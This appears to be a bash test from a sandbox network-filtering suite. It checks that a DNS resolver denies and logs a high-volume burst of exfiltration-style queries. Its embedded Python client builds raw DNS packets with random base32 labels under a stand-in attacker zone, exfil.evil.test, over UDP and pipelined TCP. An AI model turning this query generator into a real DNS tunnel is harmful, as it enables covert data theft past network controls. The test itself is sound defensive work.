#!/bin/bash
# 12-dns-exfil-volume: exfiltration by query names at volume. 2,000 UDP
# queries, each a unique random base32 label under the attacker's zone,
# as fast as the client can keep 100 in flight, then 200 pipelined on one
# TCP connection: every one gets NXDOMAIN, none reaches the upstream
# server or the attacker, each has exactly one dns_queries row, and the
# resolver answers an allowed name at once afterwards.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-dns-exfil-volume
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/policy.json" <<EOF
{"network": {"allowedDomains": ["a.test"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"
gw=$(tb_sandbox_field a gateway)
: > "$TB_DIR/dns.log"

t0=$(tb_time_ms)
out=$(tb_in a "$TB_PY" - "$gw" 2000 200 <<'EOF'
import base64, os, select, socket, struct, sys, time
gw, nudp, ntcp = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])

def query(qid, name):
    q = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + q + b"\0\1\0\1"

def name(i):
    label = base64.b32encode(os.urandom(35)).decode().rstrip("=").lower()
    return "%s.%d.exfil.evil.test" % (label, i)   # a 56-byte label

rcodes, deadline = {}, time.time() + 12
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 20)
sent, pending = 0, {}
while (sent < nudp or pending) and time.time() < deadline:
    while sent < nudp and len(pending) < 100:
        sent += 1
        pending[sent] = time.time()
        s.sendto(query(sent, name(sent)), (gw, 53))
    if select.select([s], [], [], 0.5)[0]:
        d = s.recv(4096)
        qid = struct.unpack(">H", d[:2])[0]
        if pending.pop(qid, None) is not None:
            rcodes[d[3] & 15] = rcodes.get(d[3] & 15, 0) + 1
    for qid, t in list(pending.items()):
        if time.time() - t > 2:       # no answer: counted as lost
            del pending[qid]
            rcodes["lost"] = rcodes.get("lost", 0) + 1
print("udp", " ".join("%s=%s" % kv for kv in sorted(rcodes.items(), key=str)))

t = socket.create_connection((gw, 53), timeout=5)
t.sendall(b"".join(struct.pack(">H", len(m)) + m for m in
                   (query(i, name(nudp + i)) for i in range(1, ntcp + 1))))
buf, got = b"", {}
while sum(got.values()) < ntcp and time.time() < deadline:
    chunk = t.recv(65536)
    if not chunk:
        break
    buf += chunk
    while len(buf) >= 2 and len(buf) >= 2 + struct.unpack(">H", buf[:2])[0]:
        n = struct.unpack(">H", buf[:2])[0]
        got[buf[5] & 15] = got.get(buf[5] & 15, 0) + 1
        buf = buf[2 + n:]
print("tcp", " ".join("%s=%s" % kv for kv in sorted(got.items(), key=str)))
EOF
)
t1=$(tb_time_ms)
tb_assert_eq "$out" "udp 3=2000
tcp 3=200" "all 2,200 answered NXDOMAIN (rcode 3), none lost"
tb_assert_le $((t1 - t0)) 8000 "in a few seconds"

t0=$(tb_time_ms)
tb_assert_eq "$(tb_in a dig +short +time=1 +tries=1 a.test)" "$TB_ADDR_HTTPS" \
    "the resolver answers an allowed name right after"
tb_assert_le $(( $(tb_time_ms) - t0 )) 1000 "at once"

sleep 0.5
tb_assert_eq "$(tb_upstream_queries exfil)" 0 "no exfiltration query reached the upstream"
tb_assert_eq "$(tb_upstream_queries)" 1 "the upstream saw only the a.test query"
tb_assert_eq "$(tb_attacker_packet_count)" 0 "the attacker received nothing"

tb_wait_rows "SELECT count(*) FROM dns_queries WHERE qname LIKE '%.exfil.evil.test'" 2200 10 >/dev/null
tb_assert_eq "$(tb_sql "SELECT proto, count(*), count(DISTINCT qname), rcode, verdict, reason
    FROM dns_queries WHERE qname LIKE '%.exfil.evil.test' GROUP BY proto, rcode, verdict, reason
    ORDER BY proto")" \
"tcp|200|200|NXDOMAIN|deny|not_allowlisted
udp|2000|2000|NXDOMAIN|deny|not_allowlisted" "exactly one deny row per query, each name once"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM lost_records")" 0 "no record was lost"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows")" 0 "and no flow was attempted"
tb_done
